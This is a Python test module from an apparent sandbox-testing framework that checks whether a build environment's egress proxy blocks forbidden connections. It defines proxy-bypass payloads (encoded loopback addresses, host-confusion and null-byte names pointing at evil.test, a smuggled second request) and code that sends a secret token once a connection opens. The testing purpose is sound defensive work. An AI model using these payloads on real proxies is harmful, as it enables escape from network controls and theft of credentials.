"""The way out of a build: what its doorkeeper must not let through. In the scene every name leads to this machine."""

from __future__ import annotations

from regrow.testing.attacks.base import Attack
from regrow.testing.attacks.network import heard
from regrow.testing.attacks.scene import Scene

_ASK = (
    "host, port = os.environ['HTTPS_PROXY'].removeprefix('http://').split(':')\n"
    "for request in args:\n"
    "    request = request.encode().decode('unicode_escape').replace('TOKEN', token).encode('latin-1')\n"
    "    connection = socket.create_connection((host, int(port)), 10)\n"
    "    connection.settimeout(10)\n"
    "    connection.sendall(request + b'\\r\\n\\r\\n')\n"
    "    answer = connection.recv(1000)\n"
    "    print('held' if b' 200 ' not in answer else 'connected', answer[:200])\n"
    "    if b' 200 ' in answer:\n"
    "        connection.sendall((token + '\\n').encode())\n"
    "        connection.recv(1000)\n"
    "    connection.close()\n"
)


def _asking(name: str, tries: str, *requests: str) -> Attack:
    def arguments(scene: Scene) -> list[object]:
        return [request.replace("PORT", str(scene.ports["tcp"])) for request in requests]

    return Attack(name, tries, _ASK, arguments, heard, control="open", cases=("build",), box="egress")


ATTACKS = (
    _asking("an address through the proxy", "asks for 127.0.0.1", "CONNECT 127.0.0.1:443 HTTP/1.1"),
    _asking("a wrapped address", "asks for [::ffff:127.0.0.1]", "CONNECT [::ffff:127.0.0.1]:443 HTTP/1.1"),
    _asking(
        "an address as a number",
        "asks for 2130706433, 0x7f.1 and 017700000001",
        "CONNECT 2130706433:443 HTTP/1.1",
        "CONNECT 0x7f.1:443 HTTP/1.1",
        "CONNECT 017700000001:443 HTTP/1.1",
    ),
    _asking("this machine by its name", "asks for localhost", "CONNECT localhost:443 HTTP/1.1"),
    _asking("a listed name that leads inside", "asks for it", "CONNECT index.example.org:443 HTTP/1.1"),
    _asking("another port", "asks for port 22 of a listed name", "CONNECT index.example.org:22 HTTP/1.1"),
    _asking(
        "a name that ends otherwise",
        "hangs its own name behind a listed one",
        "CONNECT index.example.org.evil.test:443 HTTP/1.1",
        "CONNECT index.example.org@evil.test:443 HTTP/1.1",
    ),
    _asking("a name that begins otherwise", "puts letters before a listed one", "CONNECT notexample.net:443 HTTP/1.1"),
    _asking(
        "a null byte",
        "ends a listed name with one, before its own",
        "CONNECT evil.test\\x00.example.net:443 HTTP/1.1",
        "CONNECT index.example.org\\x00.evil.test:443 HTTP/1.1",
    ),
    _asking("plain HTTP", "asks for a page of this machine", "GET http://127.0.0.1:PORT/TOKEN HTTP/1.1"),
    _asking(
        "two requests in one", "hides one behind another", "CONNECT evil.test:443 HTTP/1.1\\nHost: index.example.org"
    ),
)
